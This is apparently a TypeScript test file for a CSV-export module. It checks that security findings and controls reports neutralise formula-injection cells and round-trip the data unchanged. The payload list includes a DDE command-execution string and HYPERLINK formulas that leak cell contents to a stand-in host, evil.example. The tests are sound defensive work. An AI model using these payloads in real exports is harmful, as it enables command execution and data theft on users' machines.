import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import {
  FINDINGS_CSV_HEADER,
  neutraliseCell,
  parseSafeCsv,
  renderControlsCsv,
  renderFindingsCsv,
  restoreCell,
  toSafeCsv,
} from './csv-safe.js';
import { sampleModel } from './testing/sample-scan.js';

/** OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and variants. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1+1',
  "'already quoted",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
];

/** True when a raw (unparsed) CSV field would be read by a spreadsheet as a formula. */
function looksLikeFormula(rawCell: string): boolean {
  return /^[ ]*[=+\-@\t\r\n\0]/.test(rawCell);
}

describe('CSV formula-injection safety', () => {
  it('neutralises every OWASP payload and restores it exactly', () => {
    for (const p of PAYLOADS) {
      const n = neutraliseCell(p);
      assert.equal(n.startsWith("'"), true, `not neutralised: ${JSON.stringify(p)}`);
      assert.equal(restoreCell(n), p);
    }
    assert.equal(neutraliseCell('plain text'), 'plain text');
    assert.equal(neutraliseCell('foo\n=1+1'), 'foo\n=1+1');
  });

  it('writes cells no spreadsheet evaluates and parses back to the same data', () => {
    const rows = [['a', 'b'], ...PAYLOADS.map((p, i) => [String(i), p]), ['multi', 'foo\n=1+1\r\n@x']];
    const csv = toSafeCsv(rows);
    const parsedRaw = parseSafeCsvRaw(csv);
    for (const row of parsedRaw) for (const cell of row) assert.equal(looksLikeFormula(cell), false, cell);
    assert.deepEqual(parseSafeCsv(csv), rows);
  });

  it('renders the findings and controls CSV of a model with a hostile message, round-tripping', () => {
    const model = sampleModel('=HYPERLINK("http://evil.example","x")\n+second line');
    const findings = parseSafeCsv(renderFindingsCsv(model));
    assert.deepEqual(findings[0], [...FINDINGS_CSV_HEADER]);
    assert.equal(findings.length, 1 + 4);
    const msgCol = FINDINGS_CSV_HEADER.indexOf('message');
    assert.equal(findings[1]![msgCol], '=HYPERLINK("http://evil.example","x")\n+second line');
    const raw = parseSafeCsvRaw(renderFindingsCsv(model));
    assert.equal(raw[1]![msgCol]!.startsWith("'="), true);
    const controls = parseSafeCsv(renderControlsCsv(model));
    // 2 runs x (CC6.1 DATA-1, CC7.4 none, A.8.24 DATA-1)
    assert.equal(controls.length, 1 + 6);
    assert.deepEqual(controls[2]!.slice(3, 9), ['soc2', 'CC7.4', 'unknown', '', '', '']);
  });
});

/** Parses without undoing the neutralisation (what a spreadsheet would load). */
function parseSafeCsvRaw(text: string): string[][] {
  return parse(text) as string[][];
}
